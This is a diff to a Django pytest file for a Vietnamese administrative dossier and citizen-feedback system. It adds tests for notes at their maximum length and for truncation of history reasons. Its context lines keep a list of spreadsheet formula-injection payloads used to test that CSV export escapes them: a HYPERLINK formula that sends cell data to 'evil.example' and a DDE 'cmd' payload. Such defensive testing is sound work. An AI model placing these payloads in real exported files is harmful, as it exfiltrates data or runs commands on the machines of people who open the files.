@@ -11,16 +11,8 @@ import openpyxl
 import pytest
 from django.urls import reverse
 
-from tests.dossiers.conftest import (  # noqa: F401 - fixtures
-    MONDAY_0900,
-    agency,
-    build_dossier,
-    clerk,
-    leader,
-    procedure,
-    receive,
-    specialist,
-)
+from tests.dossiers.conftest import *  # noqa: F403 (agency, clerk, specialist, leader, procedure, receive, build_dossier)
+from tests.dossiers.conftest import MONDAY_0900
 
 FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")', "+1+1", "-2+3", "@SUM(A1:A2)",
             "=cmd|' /C calc'!A0", "\t=1+1"]
@@ -59,3 +51,102 @@ def test_no_csv_cell_of_the_register_starts_a_formula(client, clerk, receive):
     assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
     assert "'=cmd|' /C calc'!A0 An" in cells
     assert "'@SUM(A1:A2) An" in cells
+
+
+# --- notes at their maximum length (history reasons are 100 characters) -------------------------------------
+
+
+def _longest(form_class, field: str) -> str:
+    """A note as long as the form lets through, in Vietnamese (multi-byte) letters."""
+    length = form_class.base_fields[field].max_length
+    return ("Ghi chú dài có dấu tiếng Việt. " * (length // 30 + 1))[:length]
+
+
+@pytest.mark.postgres
+@pytest.mark.django_db
+def test_feedback_triage_and_reject_with_the_longest_note(client, agency, leader):
+    from satisfaction import forms as feedback_forms
+    from satisfaction import services as feedback_services
+    from satisfaction.models import Feedback
+
+    def report():
+        return feedback_services.create_feedback(data=feedback_services.FeedbackInput(
+            subject="procedure", content=_longest(feedback_forms.FeedbackForm, "content"), agency_id=agency.pk,
+            reporter_name=_longest(feedback_forms.FeedbackForm, "reporter_name"), is_anonymous=False))
+
+    first, second = report(), report()
+    client.force_login(leader.user)
+    note = _longest(feedback_forms.NoteForm, "note")
+    assert len(note) > 92  # the attack: 93 characters overflowed "triage: <note>"
+    response = client.post(f"/phan-anh/quan-ly/{first.pk}/triage/", {"note": note})
+    assert response.status_code == 302
+    first.refresh_from_db()
+    assert first.state == Feedback.State.TRIAGED and first.internal_note == note  # the full note is kept
+    reason = Feedback.history.filter(id=first.pk).latest("history_date").history_change_reason
+    assert reason.startswith("triage: Ghi chú") and len(reason) == 100 and reason.endswith("…")
+    reject = _longest(feedback_forms.RejectForm, "reason")
+    assert client.post(f"/phan-anh/quan-ly/{second.pk}/reject/", {"reason": reject}).status_code == 302
+    second.refresh_from_db()
+    assert second.state == Feedback.State.REJECTED and second.public_answer == reject
+
+
+@pytest.mark.postgres
+@pytest.mark.django_db
+def test_every_dossier_note_at_its_maximum_length(build_dossier, clerk, specialist, leader, procedure):
+    import datetime
+
+    from dossiers import forms as dossier_forms
+    from dossiers import services
+    from dossiers.models import Dossier, DossierEvent, State
+
+    at = MONDAY_0900 + datetime.timedelta(hours=2)
+    guidance = services.give_guidance(
+        actor=clerk.user, procedure_id=procedure.pk, now=at,
+        applicant_name=_longest(dossier_forms.ReceiveForm, "applicant_name"),
+        missing=_longest(dossier_forms.ReceiveForm, "guidance_missing"))
+    assert len(guidance.missing) == dossier_forms.ReceiveForm.base_fields["guidance_missing"].max_length
+
+    dossier = build_dossier("in_progress")
+    services.request_supplement(dossier_id=dossier.pk, actor=specialist.user, now=at, reply_by=at.date(),
+                                missing=_longest(dossier_forms.SupplementForm, "missing"))
+    services.fulfil_supplement(dossier_id=dossier.pk, actor=clerk.user, now=at,
+                               note=_longest(dossier_forms.FulfilSupplementForm, "note"))
+    services.await_payment(dossier_id=dossier.pk, actor=specialist.user, amount=1000, now=at,
+                           description=_longest(dossier_forms.PaymentForm, "description"))
+    services.confirm_payment(dossier_id=dossier.pk, actor=clerk.user, now=at,
+                             receipt_number=_longest(dossier_forms.ConfirmPaymentForm, "receipt_number"))
+    services.request_extension(dossier_id=dossier.pk, actor=specialist.user, now=at,
+                               reason=_longest(dossier_forms.ExtensionForm, "reason"),
+                               proposed_due_at=at + datetime.timedelta(days=30))
+    services.assign(dossier_id=dossier.pk, actor=leader.user, assignee_id=specialist.pk, now=at,
+                    note=_longest(dossier_forms.AssignForm, "note"))
+    steps = list(procedure.steps.order_by("order"))
+    services.forward(dossier_id=dossier.pk, actor=specialist.user, now=at,
+                     note=_longest(dossier_forms.ForwardForm, "note"))
+    services.send_back(dossier_id=dossier.pk, actor=leader.user, to_step_id=steps[1].pk, now=at,
+                       reason=_longest(dossier_forms.SendBackForm, "reason"))
+    services.stop(dossier_id=dossier.pk, actor=leader.user, now=at,
+                  reason=_longest(dossier_forms.StopForm, "reason"),
+                  legal_ground=_longest(dossier_forms.StopForm, "legal_ground"))
+    assert Dossier.objects.get(pk=dossier.pk).state == State.STOPPED
+
+    finished = build_dossier("in_progress_last")
+    services.mark_processed(dossier_id=finished.pk, actor=clerk.user, now=at,
+                            result_note=_longest(dossier_forms.ProcessedForm, "result_note"))
+    services.register_result_document(
+        dossier_id=finished.pk, actor=clerk.user, now=at, issued_on=at.date(),
+        number=_longest(dossier_forms.ResultDocumentForm, "number"),
+        signer=_longest(dossier_forms.ResultDocumentForm, "signer"),
+        title=_longest(dossier_forms.ResultDocumentForm, "title"))
+    services.return_result(dossier_id=finished.pk, actor=clerk.user, now=at,
+                           note=_longest(dossier_forms.ReturnResultForm, "note"))
+    withdrawn = build_dossier("received")
+    services.withdraw(dossier_id=withdrawn.pk, actor=clerk.user, now=at,
+                      reason=_longest(dossier_forms.WithdrawForm, "reason"))
+    services.refuse_at_counter(actor=clerk.user, procedure_id=procedure.pk, now=at,
+                               applicant=services.Applicant(
+                                   name=_longest(dossier_forms.ReceiveForm, "applicant_name"), id_number="001203004567",
+                                   phone="0912345678", address=_longest(dossier_forms.ReceiveForm, "applicant_address")),
+                               reason=_longest(dossier_forms.ReceiveForm, "refuse_reason"))
+    longest_notes = DossierEvent.objects.filter(dossier__in=[dossier, finished, withdrawn])
+    assert max(len(event.public_note) + len(event.internal_note) for event in longest_notes) >= 2000
